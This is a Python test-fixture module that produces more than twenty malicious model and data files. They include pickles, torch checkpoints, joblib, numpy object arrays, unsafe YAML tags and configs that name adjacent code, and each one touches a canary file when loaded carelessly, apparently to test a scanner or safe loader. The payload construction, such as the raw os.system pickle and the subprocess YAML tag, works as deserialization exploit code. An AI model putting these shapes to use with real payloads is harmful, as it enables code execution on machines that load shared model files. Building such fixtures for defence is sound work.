"""Files that run a program when they are loaded the careless way, in twenty and more shapes.

In: a folder and the canary, a file that appears only if the program has run. Out: shapes: a name,
the bytes, and the careless way to load them, by which the harness shows that the shape works.
Everything here is made, nothing is loaded, except by `fires` in a process of its own.
"""

import gzip
import io
import json
import pickle
import shelve
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import torch
import yaml


class Bomb:
    """Writes the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.canary,)


@dataclass(frozen=True)
class Shape:
    """One malicious file. `load` runs it; None: only code that trusts the remote would."""

    name: str
    content: bytes
    load: Callable[[Path], object] | None


def shapes(folder: Path, canary: Path) -> list[Shape]:
    """Returns all shapes; `folder` is for those that a library writes only as files."""
    bomb = Bomb(canary)
    pickled = [
        Shape(f"pickle, protocol {number}", pickle.dumps(bomb, number), _pickle)
        for number in range(pickle.HIGHEST_PROTOCOL + 1)
    ]
    system = f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()
    return [
        *pickled,
        Shape("pickle of os.system, as text", system, _pickle),
        Shape("weights in a pickle", pickle.dumps({"shared.weight": [0.0], "x": bomb}), _pickle),
        Shape("pickle before a safetensors", pickled[4].content + bytes(4096), _pickle),
        Shape("torch zip", _torch({"shared.weight": torch.zeros(2), "x": bomb}), _torch_load),
        Shape("torch before zip", _torch({"x": bomb}, zipped=False), _torch_load),
        Shape("optimizer state", _torch({"state": {0: bomb}, "param_groups": []}), _torch_load),
        Shape("random states", pickle.dumps({"step": 5, "random_state": bomb}), _pickle),
        Shape("custom state", _torch([bomb, 3]), _torch_load),
        Shape("distributed .metadata", pickle.dumps({"planner_data": bomb}, 2), _pickle),
        Shape("joblib", _joblib(bomb, 0), joblib.load),
        Shape("joblib, compressed", _joblib(bomb, 3), joblib.load),
        Shape("npy of objects", _npy(bomb), lambda path: np.load(path, allow_pickle=True)),
        Shape("npz of objects", _npz(bomb), _npz_load),
        Shape("gzip of a pickle", gzip.compress(pickle.dumps(bomb)), _gzip_load),
        Shape("zip of a pickle", _zip(pickle.dumps(bomb)), _zip_load),
        Shape("shelf", _shelf(folder, bomb), None),
        Shape("yaml apply", _yaml("apply:subprocess.check_output", canary), _unsafe_yaml),
        Shape("yaml new", _yaml_new(canary), _unsafe_yaml),
        Shape("yaml in a list", b"a:\n- " + _yaml("apply:os.mkdir", canary), _unsafe_yaml),
        Shape("config with code beside it", _auto_map("model"), None),
        Shape("tokenizer with code beside it", _auto_map("tokenizer"), None),
        Shape("safetensors with a pickle in its metadata", _metadata(pickled[0].content), None),
    ]


def fires(shape: Shape, folder: Path) -> None:
    """Loads a shape the careless way; the canary appears."""
    path = folder / "careless"
    path.write_bytes(shape.content)
    assert shape.load is not None
    shape.load(path)


def code_beside(canary: Path) -> bytes:
    """Returns the Python file that the configs with code name."""
    return f"from pathlib import Path\nPath({str(canary)!r}).touch()\nclass Evil: pass\n".encode()


def _unsafe_yaml(path: Path) -> object:
    return yaml.unsafe_load(path.read_text())


def _pickle(path: Path) -> object:
    return pickle.loads(path.read_bytes())


def _torch_load(path: Path) -> object:
    return torch.load(path, weights_only=False)


def _torch(content: object, *, zipped: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def _joblib(content: object, compress: int) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(content, buffer, compress=compress)
    return buffer.getvalue()


def _npy(bomb: Bomb) -> bytes:
    buffer = io.BytesIO()
    array = np.empty(1, object)
    array[0] = bomb
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _npz(bomb: Bomb) -> bytes:
    buffer = io.BytesIO()
    array = np.empty(1, object)
    array[0] = bomb
    np.savez(buffer, offsets=array)
    return buffer.getvalue()


def _npz_load(path: Path) -> object:
    return np.load(path, allow_pickle=True)["offsets"]


def _gzip_load(path: Path) -> object:
    return pickle.loads(gzip.decompress(path.read_bytes()))


def _zip(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", content)
    return buffer.getvalue()


def _zip_load(path: Path) -> object:
    with zipfile.ZipFile(path) as archive:
        return pickle.loads(archive.read("archive/data.pkl"))


def _shelf(folder: Path, bomb: Bomb) -> bytes:
    with shelve.open(str(folder / "shelf")) as shelf:
        shelf["model"] = bomb
    return next(folder.glob("shelf*")).read_bytes()


def _yaml(tag: str, canary: Path) -> bytes:
    command = f"['touch', '{canary}']" if tag.endswith("check_output") else f"'{canary}'"
    return f"!!python/object/{tag} [{command}]\n".encode()


def _yaml_new(canary: Path) -> bytes:
    return (f"!!python/object/new:os.mkdir\nargs: ['{canary}']\n").encode()


def _auto_map(kind: str) -> bytes:
    names = {"model": "AutoConfig", "tokenizer": "AutoTokenizer"}
    content = {
        "model_type": "evil",
        "auto_map": {names[kind]: "code_beside.Evil"},
        "tokenizer_class": "code_beside.Evil",
        "architectures": ["Evil"],
        "custom_pipelines": {"chat": {"impl": "code_beside.Evil"}},
    }
    return json.dumps(content).encode()


def _metadata(pickled: bytes) -> bytes:
    header = json.dumps({"__metadata__": {"state": pickled.decode("latin-1")}}).encode()
    return len(header).to_bytes(8, "little") + header
